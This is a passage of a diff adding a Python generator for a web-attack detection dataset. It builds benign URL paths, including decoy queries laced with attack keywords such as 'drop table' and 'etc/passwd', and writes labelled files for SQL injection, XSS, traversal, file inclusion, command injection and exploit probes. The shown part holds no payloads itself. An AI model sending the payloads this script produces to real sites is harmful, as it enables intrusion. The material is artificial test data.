+    k = rnd.randint(1, 4)
+    words = [rnd.choice(pool) for _ in range(k)]
+    if rnd.random() < 0.1:
+        words.append(rnd.choice(NAMES))
+    return " ".join(words)
+
+
+def benign_templates():
+    n = rnd.randint(1, 99999)
+    slug = "-".join(rnd.choice(WORDS_EN).lower().split("-")[0] for _ in range(rnd.randint(2, 5)))
+    utm = "utm_source=%s&utm_medium=%s&utm_campaign=%s" % (
+        rnd.choice(["google", "newsletter", "facebook", "twitter"]),
+        rnd.choice(["cpc", "email", "social"]), enc_text(phrase()))
+    t = rnd.randint(0, 24)
+    if t == 0:
+        return "/products/view?id=%d&lang=%s" % (n, rnd.choice(["en", "ja", "de", "fr"]))
+    if t == 1:
+        return "/search?q=%s" % enc_text(phrase())
+    if t == 2:
+        return "/search?q=%s&page=%d&sort=%s" % (enc_text(phrase()), rnd.randint(1, 9),
+                                                  rnd.choice(["price|desc", "date", "relevance", "-price"]))
+    if t == 3:
+        return "/blog/%d/%02d/%s" % (rnd.randint(2010, 2024), rnd.randint(1, 12), slug)
+    if t == 4:
+        return "/api/v1/users/%d?fields=%s" % (n, rnd.choice(["name,email", "id|name", "name|id", "*"]))
+    if t == 5:
+        return "/static/js/app.%08x.js?v=%d" % (rnd.getrandbits(32), n)
+    if t == 6:
+        return "/landing/%s?%s" % (slug, utm)
+    if t == 7:
+        return "/shop/cart?item=%d&qty=%d&size=%s&color=%s" % (
+            n, rnd.randint(1, 5), rnd.choice(["S", "M", "L", "XL"]), enc_text(rnd.choice(["navy blue", "rot", "noir", "黒"])))
+    if t == 8:
+        return "/auth/callback?code=%s&state=%s" % (b64tok(24).replace("+", "-").replace("/", "_").rstrip("="), b64tok(12))
+    if t == 9:
+        return "/api/search?filter=%s" % up.quote('{"category":"%s","price":{"lt":%d}}' % (phrase(), n))
+    if t == 10:
+        return "/r?url=%s" % up.quote("https://example.com/%s?a=1&b=%s" % (slug, enc_text(phrase())), safe="")
+    if t == 11:
+        return "/login?next=%s" % rnd.choice(["/account/orders", "%2Faccount%2Fsettings", "/cart?step=2"])
+    if t == 12:
+        return "/img/%s.jpg?w=%d&h=%d&fit=crop" % (slug, rnd.randint(100, 2000), rnd.randint(100, 2000))
+    if t == 13:
+        return "/track?gclid=%s&fbclid=%s&%s" % (b64tok(30).replace("/", "_").replace("+", "-"), b64tok(40).replace("/", "_").replace("+", "-"), utm)
+    if t == 14:
+        return "/comment?text=%s" % enc_text(rnd.choice(["I <3 this!", "1 < 2 and 3 > 2", "a < b", "x > y",
+                                                        "great :) <3", "price <= 20", "5 > 3", "<3 <3 <3",
+                                                        "Don't forget it's O'Brien's", "it's 50% off!"]) + " " + phrase())
+    if t == 15:
+        return "/token?t=%s" % up.quote(b64tok(rnd.randint(8, 48)), safe="")
+    if t == 16:
+        return "/wiki/%s" % up.quote(rnd.choice(WORDS_JA + WORDS_DE + WORDS_FR + WORDS_RU + WORDS_ES))
+    if t == 17:
+        return "/.well-known/acme-challenge/%s" % b64tok(32).replace("/", "_").replace("+", "-").rstrip("=")
+    if t == 18:
+        return "/~%s/index.html" % rnd.choice(["alice", "bob", "carol"])
+    if t == 19:
+        return "/download?file=%s.pdf&ref=%s" % (slug, rnd.choice(["../docs/index.html", "home", "mail"]))
+    if t == 20:
+        return "/forum/thread?id=%d&title=%s" % (n, enc_text(rnd.choice(NAMES) + " " + phrase()))
+    if t == 21:
+        return "/api/v2/events?since=2024-01-%02dT10:%02d:00Z&limit=%d&cursor=%s" % (rnd.randint(1, 28), rnd.randint(0, 59), rnd.randint(10, 100), b64tok(16))
+    if t == 22:
+        return "/calc?expr=%s" % enc_text(rnd.choice(["1+1", "2*3", "(4+5)/3", "10-2", "a=b", "x=1;y=2"]))
+    if t == 23:
+        return "/jobs?title=%s&location=%s" % (enc_text(rnd.choice(["C# developer", "C++ engineer", "Node.js dev", "SQL analyst", "DevOps (remote)"])), enc_text(rnd.choice(WORDS_DE + WORDS_JA)))
+    return "/%s/%s?ref=%s" % (rnd.choice(["en", "ja", "de"]), slug, rnd.choice(["nav", "footer", "search"]))
+
+
+TRICKY = """/search?q=select+a+size
+/search?q=union+station
+/search?q=drop-down+menu
+/comment?text=%3C3
+/comment?text=I+%3C3+NY
+/search?q=1+%3C+2
+/search?q=a+%3C+b
+/people?name=O%27Brien
+/music?genre=rock+%27n%27+roll
+/search?q=Tom+%26+Jerry
+/search?q=javascript%3A+the+good+parts
+/search?q=how+to+use+union+in+sql
+/search?q=select+size+and+color
+/search?q=alert%28s%29+settings
+/search?q=onload+event+handler
+/search?q=exec+summary+template
+/search?q=delete+my+account
+/search?q=drop+table+furniture
+/search?q=drop+table
+/search?q=sleep+%288+hours%29
+/search?q=%22quoted+phrase%22+or+something
+/search?q=C%23+tutorial
+/search?q=c%2B%2B+--+basics
+/search?q=50%25+off
+/search?q=price+10-20
+/search?q=--help
+/search?q=%3Cb%3Ebold%3C%2Fb%3E
+/search?q=email+%3Ca%40b.com%3E
+/search?q=what%27s+new%3F
+/search?q=union+select+committee
+/search?q=order+by+date
+/search?q=1%3D1
+/search?q=x%3Dy%3Dz
+/search?q=Rock+%26+Roll+Hall+of+Fame
+/search?q=cats+%7C+dogs
+/search?q=this+%7C+that
+/search?q=%28select+one%29
+/search?q=where+is+union+station%3F
+/search?q=I+%26lt%3B3+NY
+/search?q=%26amp%3B+more
+/search?q=script+writing+%26+directing
+/search?q=%24100+gift+card
+/search?q=%7Bcurly%7D+braces
+/search?q=path%2Fto%2Ffile
+/search?q=..%2Fdocs
+/search?q=wait...+what
+/search?q=version+2.0..3.0
+/files/report..final.pdf
+/docs/./intro.html
+/a//b//c
+/search?q=%E3%82%A8%E3%83%B3%E3%82%B8%E3%83%8B%E3%82%A2
+/search?q=Gr%C3%B6%C3%9Fe+w%C3%A4hlen
+/search?q=cr%C3%A8me+br%C3%BBl%C3%A9e
+/search?q=Mar%C3%ADa+Jos%C3%A9
+/page?redirect=https%3A%2F%2Fexample.com%2Fcallback%3Fcode%3Dabc%26state%3Dxyz
+/oauth/authorize?redirect_uri=https://app.example.com/cb&response_type=code
+/share?url=https://example.com/robots.txt
+/api/items?ids=1,2,3&fields=id,name
+/api/items?filter[status]=active&filter[type]=post
+/blog/how-to-select-from-a-dropdown
+/blog/union-select-committee-report
+/blog/exec-summary-and-script
+/search?q=fish+%26+chips
+/search?q=dog+%26+cat+toys
+/search?q=sleep+%26+relax
+/search?q=eat%2C+sleep%2C+repeat
+/search?q=who+am+i
+/search?q=cat+%2Fetc
+/search?q=type+of+cat
+/search?q=ls+-la+meaning
+/search?q=javascript%3Avoid%280%29
+/link?href=javascript%3Avoid%280%29
+/search?q=%22hello%22+said+she
+/search?q=data%3A+the+new+oil
+/search?q=expression+of+interest
+/search?q=regular+expression%28s%29
+/search?q=print+%28a4%29
+/api/v1/query?q=%7B%22select%22%3A%5B%22id%22%5D%7D
+/api/v1/query?json=%7B%22sort%22%3A%22-date%22%2C%22and%22%3A%5B1%2C2%5D%7D
+/search?q=1+or+2
+/search?q=10+or+12+inches
+/search?q=O%27Reilly+or+Manning
+/search?q=%27single+quotes%27
+/search?q=it%27s+a+%27test%27
+/search?q=Guns+N%27+Roses
+/search?q=5%27+11%22
+/search?q=12%22+pizza
+/search?q=L%27Or%C3%A9al
+/search?q=%3C%3C+older
+/search?q=newer+%3E%3E
+/search?q=-1
+/search?q=--
+/search?q=%23hashtag
+/search?q=%23%23%23
+/search?q=semi%3Bcolon
+/search?q=pets%3B+dogs
+/search?q=%28555%29+123-4567
+/search?q=f%28x%29+%3D+x%5E2
+/search?q=a%2Bb%3Dc
+/search?q=sort+by+price+%7C+desc
+/index.php?option=com_content&view=article&id=42
+/wp-login.php?redirect_to=https%3A%2F%2Fexample.com%2Fwp-admin%2F&reauth=1
+/wp-admin/admin-ajax.php?action=heartbeat
+/page.aspx?__VIEWSTATE=%2FwEPDwUKMTY1NDU2MTA1MmRk
+/index.jsp;jsessionid=A1B2C3D4E5F6
+/shop/product;jsessionid=0123456789ABCDEF?id=5
+/search?q=whoami+podcast
+/search?q=uname+meaning
+/search?q=curl+vs+wget
+/search?q=bash+scripting+tutorial
+/search?q=python+%7C+ruby
+/search?q=php+%26+mysql
+/search?q=%24%7Bvariable%7D+syntax
+/search?q=%28%29+%3D%3E+%7B%7D
+/search?q=template+%7B%7Bname%7D%7D
+/search?q=100%25+cotton
+/search?q=select%2A
+/search?q=information+desk
+/search?q=order+1+of+2
+/search?q=group+by+size
+/search?q=having+fun
+/search?q=limit+1+per+customer
+/search?q=sleep%28%29+function+python
+/search?q=benchmark+results+2024
+/search?q=%40%40handle
+/search?q=user%40example.com
+/.well-known/security.txt
+/.well-known/openid-configuration
+/robots.txt
+/sitemap.xml
+/favicon.ico
+/apple-touch-icon.png
+/ads.txt
+/images/backup-camera.jpg
+/products/old-school-sneakers
+/blog/why-we-moved-from-dotenv
+/docs/git-config-tutorial
+/docs/env-variables
+/downloads/app-1.2.3.tar.gz
+/downloads/data-export-2024.csv
+/static/site.css
+/static/web.css
+/assets/db.png
+/search?q=backup.zip+recovery
+/search?q=.env+file+example
+/search?q=wp-config.php+location
+/help/server-status-page
+/search?q=phpinfo+alternative
+/api/keys/list
+/account/passwd
+/search?q=passwd+command
+/search?q=etc%2Fpasswd+explained
+/search?q=%2Fetc%2Fhosts+file
+/search?q=windows+system32+folder
+/search?q=http%3A%2F%2Fexample.com
+/go?to=http%3A%2F%2Fexample.com%2Fpage
+/page?page=2
+/page?file=report.pdf
+/view?path=%2Fdocs%2Fintro
+/view?template=default
+/view?include=comments,author
+/search?q=c%3A%5Cprogram+files
+/search?q=%5Cn+newline+escape
+/search?q=back%5Cslash
+/search?q=%7E%2F.bashrc+tips
+/search?q=jndi+lookup+tutorial
+/search?q=log4j+%24%7Bjndi%7D+explained
+/search?q=%24%7Bprice%7D
+/search?q=shellshock+explained
+/search?q=function%28%29+%7B%7D
+/search?q=%25%7Bvar%7D+syntax
+/search?q=OGNL+tutorial
+/search?q=class.forName+java
+/search?q=-d+option
+/search?q=-s
+/?-page=2
+/index.php?-hidden=1
+/search?q=union%0Astation
+/search?q=hello%0Aworld
+/search?q=line1%0D%0Aline2
+/search?q=tab%09separated""".strip().split("\n")
+
+
+def benign_lines():
+    out = list(TRICKY)
+    for name in NAMES + WORDS_JA + WORDS_DE + WORDS_FR:
+        out.append("/search?q=" + up.quote_plus(name))
+        out.append("/search?q=" + up.quote(name))
+        out.append("/profile?name=" + up.quote_plus(name) + "&city=" + up.quote_plus(rnd.choice(WORDS_DE + WORDS_JA)))
+    for w in WORDS_EN:
+        out.append("/search?q=" + up.quote_plus(w))
+    while len(out) < 24000:
+        line = benign_templates()
+        r = rnd.random()
+        if r < 0.15:
+            line += "\tUA:" + rnd.choice(BROWSER_UA)
+        elif r < 0.3:
+            line += "\tREF:" + rnd.choice(REFERERS)
+        out.append(line)
+    return out
+
+
+def write(path, lines, header):
+    with open(os.path.join(HERE, path), "w", encoding="utf-8", newline="\n") as f:
+        f.write("# " + header + " (generated by gen.py; do not edit)\n")
+        for line in lines:
+            assert "\n" not in line and "\r" not in line, line
+            f.write(line + "\n")
+
+
+def main():
+    os.makedirs(os.path.join(HERE, "attacks"), exist_ok=True)
+    write("attacks/sqli.txt", make_lines(SQLI, SQL_ENC, ["id", "q", "user", "cat", "page_id", "item"], 400),
+          "SQL injection")
+    write("attacks/xss.txt", make_lines(XSS, XSS_ENC, ["q", "name", "comment", "redirect", "msg"], 400,
+                                        lambda p: ["/" + q(p, safe="/")]), "cross-site scripting")
+    trav = make_lines(TRAV, GEN_ENC, ["file", "page", "path", "include", "doc", "template", "download"], 250,
+                      trav_extra) + TRAV_PATHS
+    write("attacks/traversal.txt", trav, "directory traversal and local file inclusion")
+    rfi = []
+    for u in RFI_URLS:
+        for k in rnd.sample(RFI_PARAMS, 6):
+            enc = rnd.choice([e_plain, e_pct, e_double, e_form])
+            rfi.append("%s?%s=%s" % (rnd.choice(ENDPOINTS), k, enc(u)))
+    write("attacks/rfi.txt", rfi, "remote file inclusion")
+    cmdi_payloads = []
+    for p in CMDI:
+        for pre in rnd.sample(CMDI_PREFIX, 2):
+            cmdi_payloads.append(pre + p)
+    write("attacks/cmdi.txt", make_lines(cmdi_payloads, GEN_ENC, ["ip", "host", "cmd", "target", "addr"], 250),
+          "OS command injection")
+    write("attacks/exploit.txt", exploit_lines(), "known exploit probes")
+    write("attacks/sensitive-file.txt", sensitive_lines(), "sensitive files")
+    write("attacks/scanner.txt", scanner_lines(), "scanner user agents")
+    write("benign.txt", benign_lines(), "benign traffic, much of it built to fool a keyword grep")
+
+
+if __name__ == "__main__":
+    main()
